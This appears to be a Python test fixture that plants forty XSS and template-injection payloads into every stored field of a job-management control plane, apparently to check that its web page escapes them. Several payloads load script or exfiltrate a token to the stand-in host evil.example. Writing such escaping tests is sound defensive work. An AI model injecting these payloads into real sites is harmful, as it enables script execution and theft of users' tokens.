"""What an attacker would put into a job: forty payloads, each alone in every field that the page shows."""

from __future__ import annotations

import secrets
from collections.abc import Sequence
from typing import Any, Final

from sqlalchemy.orm import Session

from overmind_agent.lifecycle import Status
from overmind_controlplane.caller import Caller
from overmind_controlplane.plane import Plane
from overmind_controlplane.record.tables import (
    Agent,
    AgentEvent,
    Demand,
    Iteration,
    Job,
    JobEvent,
    Token,
    new_id,
    now,
)
from overmind_controlplane.storage import files

OWN: Final = "window.pwned=1"
PAYLOADS: Final[Sequence[str]] = (
    f"<script>{OWN}</script>",
    f"</pre><script>{OWN}</script>",
    f"</title><script>{OWN}</script>",
    f"</textarea></style></script><script>{OWN}</script>",
    f"<ScRiPt>{OWN}</sCrIpT>",
    f"<scr<script>ipt>{OWN}</script>",
    "<script src=//evil.example/x.js></script>",
    '<script src="data:text/javascript,window.pwned=1"></script>',
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/x.png>",
    "<img src='x' onerror='alert(1)'",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "' onfocus='alert(1)' autofocus '",
    "` onerror=`alert(1)`",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</svg><svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href='javascript:alert(1)'>x",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/leak)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><input name=token autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "javascript:alert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;",
    "{{ 7*7 }}{% for x in [].__class__ %}${7*7}<%= 7*7 %>",
    'data: x\n\nevent: part\ndata: {"name": "state", "html": "<script>window.pwned=1</script>"}\n\n',
    "\u202e\x1b[31m\x00\x08<script>window.pwned=1</script>\ud83d\u2028\u2029",
)


def plant(session: Session, plane: Plane, caller: Caller, payload: str) -> str:
    """A job that carries *payload* everywhere, with its agent and a token of that name; the job's id."""
    # No database keeps a NUL or half a character in a text; both come in JSON and in logs.
    kept = payload.replace("\x00", "").encode("utf-8", "ignore").decode()
    agent_id, job_id = new_id(), new_id()
    session.add(
        Agent(
            id=agent_id,
            project_id=caller.project_id,
            created_by=caller.token_id,
            agent_version=kept,
            host_os=kept,
            status=kept,
            capabilities=[kept],
            not_accepting=kept,
            slots=1,
        )
    )
    session.flush()
    named = {"kind": "display_name", "value": {"display_name": payload}, "created_by": caller.token_id}
    session.add(AgentEvent(agent_id=agent_id, **named))
    session.add(Token(sha256=secrets.token_hex(32), project_id=caller.project_id, role="submit", name=kept))
    told = files.write_json(
        plane.blobs, caller.project_id, "parameters.json", {kept: kept, "prompt": f"{kept}\nold"}
    )
    file_id = files.add_file(session, caller, ("Job", job_id), told)
    model = files.add_model(session, caller, told)
    demand = {"function_name": kept, "module_name": kept, "project_id": caller.project_id}
    session.add(Demand(digest=secrets.token_hex(32), **demand))
    session.add(_job(caller, (job_id, agent_id, model.id, file_id), payload, kept))
    session.flush()
    for status in (Status.PENDING, Status.RUNNING):
        line = {"message": kept, "detail": {"reason": payload}, "created_by": caller.token_id, "attempt": 2}
        session.add(JobEvent(job_id=job_id, name=status, agent_id=agent_id, **line))
    for place in range(2):
        step = {"iteration_name": kept, "agent_code": kept, "description": kept, "status": kept}
        session.add(Iteration(project_id=caller.project_id, job_id=job_id, avg_score=place, order=place, **step))
    source = files.Source(files.last_revision(session, file_id).id, "job")
    made = files.write(plane.blobs, caller.project_id, kept, kept.encode())
    files.add_artifact(session, caller, model, files.NewRevision(**{**vars(made), "sources": (source,)}))
    plane.logs.append(job_id, 0, payload.encode("utf-8", "surrogatepass"))
    return job_id


def _job(caller: Caller, ids: tuple[str, str, str, str], payload: str, kept: str) -> Job:
    job_id, agent_id, model_id, file_id = ids
    metrics = {"avg_eval_score": payload, "avg_latency_ms": 1, "error": payload}
    advice = {name: {"model": payload, "name": payload} for name in ("fastest", "current_model")}
    return Job(
        id=job_id,
        project_id=caller.project_id,
        created_by=caller.token_id,
        user_number=caller.number,
        status=Status.RUNNING,
        holder=agent_id,
        attempt=2,
        started_at=now(),
        function_name=kept,
        module_name=kept,
        model_id=model_id,
        file_id=file_id,
        labels=[payload],
        progress={"step": 1, "total_steps": 2, "step_name": payload},
        failure={"reason": payload, "message": payload},
        outcome=_outcome(payload),
        best_score=1.5,
        best_agent_code=f"{kept}\nnew",
        report_markdown=kept,
        backtest_results={
            "model_results": {payload: {"aggregate_metrics": metrics}},
            "baseline_metrics": metrics,
            "comparisons": {payload: {"difference": 0.1, "verdict": payload, "reasons": [payload]}},
            "recommendations": {"verdict": payload, "summary": payload, **advice},
        },
    )


def _outcome(payload: str) -> dict[str, Any]:
    figures = {name: {"ok": payload, "total": payload, "p50": payload} for name in ("counts", "latency_ms")}
    usage = {"cost_usd": payload, "total_tokens": payload}
    accuracy = {"accuracy": 1, "correct": 1, "compared": 1, "interval_95": [payload, payload]}
    told = {payload: payload, "distribution": {payload: 3}, "nested": [{payload: [payload]}], "status": payload}
    return {**told, **figures, "usage": usage, "accuracy": accuracy}
